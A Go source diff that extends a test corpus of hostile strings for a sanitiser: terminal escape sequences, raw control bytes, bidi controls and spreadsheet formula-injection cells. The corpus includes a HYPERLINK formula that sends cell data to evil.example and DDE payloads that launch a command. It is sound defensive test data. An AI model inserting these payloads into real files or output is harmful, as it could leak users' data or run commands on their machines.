@@ -1,5 +1,7 @@
 // Package hostile is a corpus of strings a hostile or broken server might send: escape
-// sequences, OSC, C1 controls, bidi overrides, wide and zero-width characters. It is
+// sequences of every family (CSI, OSC, DCS, APC, PM, SOS, two-byte and charset
+// escapes), C0 and C1 controls (C1 as code points and as raw bytes), bidi controls,
+// wide and zero-width characters, and cells a spreadsheet would run as a formula. It is
 // test data shared by the sanitiser's fuzz seeds and every hostile-text test; nothing
 // in the product imports it.
 package hostile
@@ -44,6 +46,22 @@ var Strings = map[string]string{
 	"reset terminal":    "\x1bcReset\x1b7\x1b8",
 	"conceal":           "\x1b[8mSecret\x1b[28m",
 	"alt screen":        "\x1b[?1049hAlt\x1b[?1049l",
+	"scroll region":     "Pat\x1b[2;5rScroll\x1b[r",
+	"window ops":        "Win\x1b[8;1;1t\x1b[21tdow",
+	"ss2 ss3":           "\x1bNSingle\x1bOShift",
+	"raw c1 controls":   "Raw\x85\x84\x8e\x90\x9cC1",
+	"nul and del":       "Nu\x00l De\x7fl",
+	"soft hyphen":       "So\u00adft",
+	"bidi embeddings":   "\u202aLTR\u202b RTL\u202c\u202d",
+	// Cells a spreadsheet runs as a formula (OWASP's CSV injection list, and the
+	// full-width equals sign some spreadsheets take for one).
+	"formula equals":    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+	"formula plus":      "+1+cmd|' /C calc'!A0",
+	"formula minus":     "-2+3+cmd|' /C calc'!A0",
+	"formula at":        "@SUM(1+9)*cmd|' /C calc'!A0",
+	"formula tab":       "\t=1+1",
+	"formula cr":        "\r=1+1",
+	"formula fullwidth": "\uff1d1+1",
 }
 
 // List is the corpus in a fixed order, for building hostile fixtures.
